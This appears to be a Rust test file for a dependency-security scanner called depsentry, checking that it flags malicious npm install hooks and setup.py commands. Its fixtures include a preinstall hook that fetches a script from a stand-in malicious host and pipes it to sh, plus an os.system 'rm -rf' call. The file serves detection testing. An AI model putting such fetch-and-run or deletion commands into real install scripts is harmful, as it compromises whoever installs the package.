use std::collections::BTreeMap;

use depsentry::models::ecosystem::Ecosystem;
use depsentry::models::finding::{dedupe_findings, Finding, FindingType, Severity};
use depsentry::models::manifest::Manifest;
use depsentry::services::script_patterns::ScriptPatternEngine;

fn scripts(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
    entries
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

#[test]
fn malicious_preinstall_is_critical_with_automatic_evidence() {
    let engine = ScriptPatternEngine::new();
    let matches = engine.scan_npm_scripts(&scripts(&[(
        "preinstall",
        "curl http://malicious.test/evil.sh | sh",
    )]));

    assert_eq!(matches.len(), 1);
    let m = &matches[0];
    assert_eq!(m.severity, Severity::Critical);
    assert!(m.confidence >= 0.9);

    let evidence = m.evidence();
    assert!(evidence.iter().any(|e| e.contains("curl http://malicious.test/evil.sh | sh")));
    assert!(evidence.iter().any(|e| e.contains("runs automatically")));
}

#[test]
fn dangerous_hook_partition_matches_install_behavior() {
    for hook in ["preinstall", "install", "postinstall"] {
        assert!(Manifest::is_dangerous_hook(hook));
    }
    for hook in ["prepare", "test", "build", "start"] {
        assert!(!Manifest::is_dangerous_hook(hook));
    }
}

#[test]
fn benign_scripts_produce_no_matches() {
    let engine = ScriptPatternEngine::new();
    let matches = engine.scan_npm_scripts(&scripts(&[
        ("test", "jest"),
        ("build", "tsc -p tsconfig.json"),
        ("start", "node server.js"),
    ]));
    assert!(matches.is_empty());
}

#[test]
fn setup_py_matches_are_install_time() {
    let engine = ScriptPatternEngine::new();
    let matches = engine.scan_setup_py("import os\nos.system('rm -rf /tmp/x')\n");
    assert!(!matches.is_empty());
    for m in matches {
        assert_eq!(m.hook, "setup.py");
        assert!(m.runs_automatically);
        assert!(m.confidence >= 0.9);
    }
}

#[test]
fn finding_dedupe_merges_same_key() {
    let base = || {
        Finding::rule_based(
            "demo",
            "1.0.0",
            Ecosystem::Npm,
            FindingType::MaliciousScript,
            Severity::Critical,
            0.9,
            "pattern_engine",
        )
    };
    let merged = dedupe_findings(vec![
        base().with_evidence("first"),
        base().with_evidence("second"),
        base().with_evidence("first"),
    ]);

    assert_eq!(merged.len(), 1);
    assert_eq!(merged[0].evidence, vec!["first", "second"]);
}
